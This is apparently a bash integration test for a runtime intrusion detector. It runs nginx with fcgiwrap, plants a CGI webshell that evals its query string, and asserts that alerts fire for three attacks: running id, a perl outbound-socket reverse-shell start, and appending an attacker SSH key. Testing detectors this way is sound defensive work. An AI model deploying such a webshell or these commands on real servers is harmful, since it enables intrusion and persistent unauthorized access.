#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
#
# t2403: a real nginx (Debian's nginx-light: a root master, www-data workers) serving static
# files and CGI through fcgiwrap (as www-data), learned under a curl load (pages, a CGI status
# script), watched under a different benign load (other pages, HEAD, 404s, the CGI with other
# queries, a configuration reload, a log rotation with USR1) with no alert, then attacked through
# a webshell, one server per compromise:
#   id        the webshell runs `id`
#   perl      the webshell starts a perl one-liner that connects out (a reverse shell's start)
#   sshkey    the webshell adds a key to www-data's ~/.ssh/authorized_keys
# Each compromise: its strongest alert is high (>= 8), its alerts are one incident, and the
# headline names the root cause. The webshell is planted by the test, as an attacker with a
# write primitive (an upload flaw) would; the test runs in a private mount namespace where
# www-data's home (/var/www) is a fresh tmpfs.
if [ "$(id -u)" = 0 ] && [ -z "${VIGIL_T2403_NS:-}" ] && command -v unshare >/dev/null; then
	VIGIL_T2403_NS=1 exec unshare --mount --propagation private -- "$0" "$@"
fi
. "$(dirname "$0")/../lib/common.sh"
requires_root
requires_cmd nginx fcgiwrap curl setpriv perl
vigil_has watch || skip "vigil watch is not part of this build"
[ -n "${VIGIL_T2403_NS:-}" ] || fail "needs a private mount namespace (unshare)"

WWWHOME=$(getent passwd www-data | cut -d: -f6)
mkdir -p "$WWWHOME"
mount -t tmpfs -o mode=0755 tmpfs "$WWWHOME"
mkdir -m 700 "$WWWHOME/.ssh"
chown www-data:www-data "$WWWHOME/.ssh"

chmod 755 "$TEST_TMP"
T=$TEST_TMP
ROOT=$T/www
mkdir -p "$ROOT/cgi-bin" "$T/logs" "$T/tmp" "$T/run"
chown www-data:www-data "$T/run"
for i in 1 2 3 4 5; do echo "<p>page $i</p>" >"$ROOT/page$i.html"; done
echo "<p>home</p>" >"$ROOT/index.html"
cat >"$ROOT/cgi-bin/status.sh" <<'CGI'
#!/bin/sh
printf 'Content-Type: text/plain\r\n\r\n'
echo "status ok: ${QUERY_STRING:-none}"
CGI
chmod 755 "$ROOT/cgi-bin/status.sh"
PORT=$(free_port)
cat >"$T/nginx.conf" <<CONF
daemon off;
user www-data;
worker_processes 1;
pid $T/nginx.pid;
error_log $T/logs/error.log;
events { worker_connections 64; }
http {
	access_log $T/logs/access.log;
	client_body_temp_path $T/tmp/body;
	proxy_temp_path $T/tmp/proxy;
	fastcgi_temp_path $T/tmp/fastcgi;
	uwsgi_temp_path $T/tmp/uwsgi;
	scgi_temp_path $T/tmp/scgi;
	server {
		listen 127.0.0.1:$PORT;
		root $ROOT;
		location /cgi-bin/ {
			include /etc/nginx/fastcgi_params;
			fastcgi_param SCRIPT_FILENAME \$document_root\$fastcgi_script_name;
			fastcgi_pass unix:$T/run/fcgi.sock;
		}
	}
}
CONF
# The workload: fcgiwrap (as www-data) and nginx, started together as a site's unit would.
cat >"$T/site.sh" <<SITE
#!/bin/sh
setpriv --reuid=www-data --regid=www-data --init-groups fcgiwrap -c 2 -s unix:$T/run/fcgi.sock &
exec nginx -c $T/nginx.conf
SITE
chmod 755 "$T/site.sh"
rm -f "$T/run/fcgi.sock"

PROFILE=$T/nginx.yaml
URL=http://127.0.0.1:$PORT
get() { curl -gfsS -o /dev/null --max-time 5 "$URL$1"; }
up() { [ -S "$T/run/fcgi.sock" ] && get /index.html 2>/dev/null && get "/cgi-bin/status.sh?up" 2>/dev/null; }
stop()
{
	kill -QUIT "$(cat "$T/nginx.pid" 2>/dev/null)" 2>/dev/null || true
	pkill_fcgi
}
# fcgiwrap is ours: the one listening on this test's socket
pkill_fcgi()
{
	local p
	for p in $(pgrep -x fcgiwrap || true); do
		grep -q "$T/run/fcgi.sock" "/proc/$p/cmdline" 2>/dev/null && kill "$p" 2>/dev/null || true
	done
	rm -f "$T/run/fcgi.sock"
}
on_exit pkill_fcgi

# ---- learn under curl: pages and the status CGI ---------------------------------------------
"$VIGIL" learn --out "$PROFILE" --name nginx -- /bin/sh "$T/site.sh" 2>"$T/learn.err" &
LPID=$!
on_exit stop_pid "$LPID"
wait_until 20 up || fail "nginx did not start under vigil learn: $(cat "$T/learn.err" "$T/logs/error.log")"
for r in 1 2 3; do
	for i in 1 2 3 4 5; do get "/page$i.html" || fail "GET page$i"; done
	get / || fail "GET /"
	get "/cgi-bin/status.sh?q=$r" || fail "GET status.sh"
done
stop
wait "$LPID" || fail "vigil learn failed: $(cat "$T/learn.err")"
assert_file_contains "$PROFILE" "$(readlink -f "$(command -v fcgiwrap)")"

STORE=sqlite:$T/evidence.db
serve()
{
	ALERTS=$T/alerts-$1.jsonl
	: >"$ALERTS"
	# R0011 (egress) is off by default as in Kubescape; a SOC watching a web server turns it on
	"$VIGIL" watch --profile "$PROFILE" --name nginx --enable R0011 --alerts "file:$ALERTS" \
		--evidence "$STORE" -- /bin/sh "$T/site.sh" >"$T/watch-$1.out" 2>"$T/watch-$1.err" &
	WPID=$!
	on_exit stop_pid "$WPID"
	wait_until 20 up || fail "nginx did not start under vigil watch: $(cat "$T/watch-$1.err")"
}
finish()
{
	stop
	set +e
	wait "$WPID"
	RC=$?
	set -e
}

# ---- a different benign load: other requests, a reload, a log rotation ----------------------
serve benign
for i in 5 4 3; do curl -fsS -I -o /dev/null "$URL/page$i.html" || fail "HEAD page$i"; done
curl -sS -o /dev/null "$URL/missing.html" || fail "GET a missing page"
get "/cgi-bin/status.sh?other=query&x=1" || fail "GET status.sh"
kill -HUP "$(cat "$T/nginx.pid")" # reload
mv "$T/logs/access.log" "$T/logs/access.log.1"
kill -USR1 "$(cat "$T/nginx.pid")" # reopen logs
wait_until 10 test -e "$T/logs/access.log" || fail "nginx did not reopen its log"
for i in 1 2; do get "/page$i.html" || fail "GET page$i after the reload"; done
finish
assert_eq 0 "$(json_count "$ALERTS")" "alerts on the benign load: $(json_get "$ALERTS" message | head -c 2000)"
assert_eq 0 "$RC" "vigil watch status on the benign load"

# ---- the webshell, planted; each compromise on a fresh server --------------------------------
cat >"$ROOT/cgi-bin/img.cgi" <<'CGI'
#!/bin/sh
printf 'Content-Type: text/plain\r\n\r\n'
eval "$(printf '%b' "$(echo "$QUERY_STRING" | sed 's/+/ /g; s/%/\\x/g')")" 2>&1
CGI
chmod 755 "$ROOT/cgi-bin/img.cgi"
json_count_ge() { [ "$(json_count "$2" "${@:3}")" -ge "$1" ]; }
# compromise NAME HEADLINE: a V1100 at 8 is the strongest alert, every alert is one incident,
# and the incident's headline contains HEADLINE.
compromise()
{
	local name=$1 want=$2 top
	finish
	wait_until 10 json_count_ge 1 "$ALERTS" rule_id=V1100 ||
		fail "$name: no V1100: $(json_get "$ALERTS" message | head -c 2000)"
	top=$(json_get "$ALERTS" severity | sort -n | tail -1)
	assert_eq 8 "$top" "$name: the strongest alert's severity"
	assert_eq 1 "$(json_get "$ALERTS" incident_id | sort -u | wc -l)" "$name: incidents"
	assert_contains "$(json_get "$ALERTS" incident_headline | tail -1)" "$want" "$name: headline"
	log "$name: $(json_count "$ALERTS") alerts, one incident: $(json_get "$ALERTS" incident_headline | tail -1)"
}
FCGI=$(basename "$(readlink -f "$(command -v fcgiwrap)")")
SH=$(readlink -f /bin/sh)

serve id
get "/cgi-bin/img.cgi?id" || fail "the webshell did not answer"
compromise id "$FCGI started $SH, which ran id as www-data"

spawn_server listener "$PROGS/tcp_echo" 0
serve perl
get "/cgi-bin/img.cgi?perl+-MIO::Socket+-e+'IO::Socket::INET->new(q{127.0.0.1:$SERVER_PORT})'" ||
	fail "the webshell did not answer"
wait_until 10 grep -q '^conn ' "$TEST_TMP/listener.log" || fail "perl: no connection reached the listener"
wait_until 10 json_count_ge 1 "$ALERTS" rule_id=R0011 "event.port=$SERVER_PORT" ||
	fail "perl: its connection raised no R0011: $(json_get "$ALERTS" message | head -c 1500)"
compromise perl "$FCGI started $SH, which ran perl as www-data"

serve sshkey
get "/cgi-bin/img.cgi?echo+ssh-ed25519+AAAAattacker+>>$WWWHOME/.ssh/authorized_keys" ||
	fail "the webshell did not answer"
compromise sshkey "$FCGI started $SH"
[ "$(json_count "$ALERTS" rule_id=V1101 "event.path=$WWWHOME/.ssh/authorized_keys")" -ge 1 ] ||
	fail "sshkey: no V1101: $(json_get "$ALERTS" message | head -c 1500)"
[ -s "$WWWHOME/.ssh/authorized_keys" ] || fail "sshkey: the attack did not write its file"
echo "ok: $TEST_NAME"
